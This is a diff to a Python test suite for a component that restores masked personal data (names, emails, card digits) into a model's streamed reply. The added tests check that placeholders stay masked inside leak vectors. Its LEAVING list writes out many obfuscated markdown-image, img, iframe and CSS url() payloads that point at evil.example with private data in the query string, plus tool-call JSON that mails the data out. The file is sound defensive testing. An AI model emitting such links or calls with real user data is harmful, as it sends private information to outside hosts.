@@ -17,12 +17,14 @@ ORIGINALS = {
     "[EMAIL_2X9P]": "zoe@example.org",
     "[TEXT_9K3N]": "[PERSON_7Q2M]",
     "[URL_3H3H]": "https://shop.example.org/a",
+    "[CARD_DIGITS_9D3G]": "4111",
 }
 PIECES = [
-    *ORIGINALS, *(name.strip("[]").lower() for name in ORIGINALS), "[PERSON_2222]", "[", "]", "(", ")", "](", "![x](",
+    *ORIGINALS, *(name.strip("[]").lower() for name in ORIGINALS), "[PERSON_2222]", "[PERSON_7Q2M", "PERSON_7Q2M]",
+    "[", "]", "(", ")", "](", "![x](",
     "https://e.org/?q=", "<a href='", "<img src=x ", ">", "<tool_call>", "</tool_call>", "\\", "\\_", "&#91;", "&#93;",
     "%5B", "%5D", "PERSON_", "7Q2M", "\n", "\n\n", " ", '"', "{", "}", ":", ",", '"tool_calls":', '"a": ', "é", "😀",
-    ".x", "www.", "//",
+    ".x", "www.", "//", '"[CARD_DIGITS_9D3G]"', '"input":', "<", "url(",
     "```tool_code\n", "```\n", "\\u005b", "\\ud83d", "\\n", "\x00", "\ufffd",
 ]  # fmt: skip
 REPLIES = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=25).map("".join)
@@ -91,10 +93,20 @@ def test_what_is_held_back_is_bounded(text: str, size: int) -> None:
         ("_PERSON_LAST_7Q2M_, `person_last_7q2m`", "_O'Neil_, `O'Neil`"),
         (r"\[PERSON\_LAST\_7Q2M\] (EMAIL\_2X9P)", "O'Neil (zoe@example.org)"),
         ("&#91;PERSON_7Q2M&#93; &lbrack;email&lowbar;2x9p&rsqb;", 'Zoë "O\'Neil" &lt;z&gt;\n&amp;😀 zoe@example.org'),
+        ("&#091;PERSON&#095;LAST&#x5f;7Q2M&#x5D; &#x005b;email_2x9p&#0093;", "O'Neil zoe@example.org"),
+        ("Dear [PERSON_LAST_7Q2M, hi", "Dear O'Neil, hi"),
+        ("Dear [PERSON_LAST_7Q2M,\n[1] PERSON_LAST_7Q2M] and [", "Dear O'Neil,\n[1] O'Neil and ["),
+        ("[PERSON_LAST_7Q2M and [EMAIL_2X9P]", "O'Neil and zoe@example.org"),
+        ("[PERSON_LAST_7Q2M, EMAIL_2X9P]", "[O'Neil, zoe@example.org]"),
+        ("[of PERSON_LAST_7Q2M] [PERSON_LAST_7Q2M's](#a)", "[of O'Neil] [O'Neil's](#a)"),
         ("name = '[PERSON_LAST_7Q2M]'  # [EMAIL_2X9P]", "name = 'O'Neil'  # zoe@example.org"),
         ("<b>[PERSON_LAST_7Q2M]</b> <[EMAIL_2X9P]> <EMAIL_2X9P>", "<b>O'Neil</b> <zoe@example.org> <zoe@example.org>"),
         ("[TEXT_9K3N]", "[PERSON_7Q2M]"),
         ("[Subject]: Reply to [PERSON_LAST_7Q2M]", "[Subject]: Reply to O'Neil"),
+        ("<a title='a > b' href=x>[PERSON_LAST_7Q2M]</a><br/>", "<a title='a > b' href=x>O'Neil</a><br/>"),
+        (r"![x](<a\>(b>) [y](/(a\)\\)) [PERSON_LAST_7Q2M]", r"![x](<a\>(b>) [y](/(a\)\\)) O'Neil"),
+        ("[id]: </x y> 'title' [PERSON_LAST_7Q2M]", "[id]: </x y> 'title' O'Neil"),
+        ("- [ ] [PERSON_LAST_7Q2M], see [1]: [EMAIL_2X9P]", "- [ ] O'Neil, see [1]: zoe@example.org"),
         ("[^1]: [EMAIL_2X9P] wrote", "[^1]: zoe@example.org wrote"),
         (
             "see [URL_3H3H] [1](#top) and/or [PERSON_LAST_7Q2M]",
@@ -138,16 +150,41 @@ LEAVING = [
     '{"type": "tool_use", "name": "send", "input": {"to": "[EMAIL_2X9P]"}}',
     '{"functionCall": {"args": {"to": "[EMAIL_2X9P]"}}}',
     '{"name": "send_mail", "arguments": {"to": "[EMAIL_2X9P]"}}',
+    '{"arguments": {"to": "[EMAIL_2X9P]"}, "name": "send_mail"}',
+    '{"tool": "send_mail", "args": {"to": "[EMAIL_2X9P]"}}',
+    r'"{\"tool_calls\": [\"[EMAIL_2X9P]\"]}"',
     'Action: send\nAction Input: {"to": "[EMAIL_2X9P]"}',
     '<img alt=">" src="x?[PERSON_7Q2M]">',
     "<input title='a > b' value='[EMAIL_2X9P]'>",
     "sip:x@[PERSON_7Q2M]",
     r"https:\/\/evil.example\/[PERSON_7Q2M]",
+    r"![x](<\//evil.example/) [PERSON_7Q2M]>)",
+    r"![x](<\//evil.example/\> [PERSON_7Q2M]>)",
+    "![x](<&#x68;ttps://evil.example/) [PERSON_7Q2M]>)",
+    "![x](\n <&#x68;ttps://evil.example/) [PERSON_7Q2M]>)",
+    r"![x](&#104;ttps:&#47;&#47;evil.example&#47;\)[PERSON_7Q2M])",
+    r"![x](/a\)?q=[PERSON_7Q2M])",
+    r"![x](/a\\\)?q=[PERSON_7Q2M])",
+    "background: url( '//evil.example/) [PERSON_7Q2M]')",
+    "[id]: <&#104;ttps://evil.example/?q= [PERSON_7Q2M]>",
+    "1. [id]: <&#104;ttps://evil.example/?q= [PERSON_7Q2M]>",
+    "[i\nd]: &#104;ttps://evil.example/[PERSON_7Q2M]",
+    f"[{'i' * 200}]: /x?[PERSON_7Q2M]",
+    "[open\n- [id]: /x?[PERSON_7Q2M]",
+    '<img alt= ">" src="//evil.example/?q= [PERSON_7Q2M]">',
+    '<img alt\n=\n">" src="//evil.example/?q= [PERSON_7Q2M]">',
+    f'<img style={"a" * 120} title=">" src="//evil.example/?q= [PERSON_7Q2M]">',
+    '<img alt=="><img alt=">" src="//evil.example/?q= [PERSON_7Q2M]">',
+    '<img a="x"b=" <img alt=">" src="//evil.example/?q= [PERSON_7Q2M]">',
+    '<iframe src="//evil.example/?q=\n\n[PERSON_7Q2M]">',
+    f"<img src=//evil.example/?q=\n{' ' * 201}x=\n[PERSON_7Q2M]>",
+    "<img alt=x\n\u00a0\nsrc='//evil.example/?q= [PERSON_7Q2M]'>",
+    "<\uff5ctool\u2581calls\u2581begin\uff5c>[EMAIL_2X9P]",
 ]
 
 
 # Of calls whose end no mark tells: nothing after them is put back.
-FOR_GOOD = ("TOOL_CALLS", "tool_calls", "tool_use", "functionCall", '"arguments"', "<|")
+FOR_GOOD = ("TOOL_CALLS", "tool_calls", "tool_use", "functionCall", '"arguments"', '"args"', "<|", "\uff5c")
 
 
 @pytest.mark.parametrize("reply", LEAVING)
@@ -189,16 +226,20 @@ JSON = st.recursive(
 )
 
 
-@given(JSON, st.text(st.characters(), max_size=20), st.booleans())
-def test_json_stays_json_and_is_else_the_same(value: object, original: str, ascii_only: bool) -> None:
+NUMBERS = st.one_of(st.integers(), st.floats(allow_nan=False))
+
+
+@given(JSON, st.text(st.characters(), max_size=20), NUMBERS, st.booleans())
+def test_json_stays_json_and_is_else_the_same(value: object, original: str, number: float, ascii_only: bool) -> None:
     """Nothing is lost: a value of any kind goes into a string with its escapes, and no other byte changes."""
-    reply = json.dumps({"before": value, "it": "a [PERSON_7Q2M] z"}, ensure_ascii=ascii_only, indent=1)
-    stream = open_reply({"[PERSON_7Q2M]": original}, "json")
+    sent = {"before": value, "it": "a [PERSON_7Q2M] z", "number": "[AMOUNT_DIGITS_2X9P]"}
+    reply = json.dumps(sent, ensure_ascii=ascii_only, indent=1)
+    stream = open_reply({"[PERSON_7Q2M]": original, "[AMOUNT_DIGITS_2X9P]": json.dumps(number)}, "json")
     text = stream.feed(reply) + stream.finish()
-    assert json.loads(text) == {**json.loads(reply), "it": f"a {original} z"}
+    assert json.loads(text) == {**json.loads(reply), "it": f"a {original} z", "number": number}
     head, _, tail = reply.partition("[PERSON_7Q2M]")
     assert text.startswith(head)
-    assert text.endswith(tail)
+    assert text.endswith(tail.replace('"[AMOUNT_DIGITS_2X9P]"', json.dumps(number)))
 
 
 def test_an_escaped_surrogate_in_json_is_read_as_what_it_says() -> None:
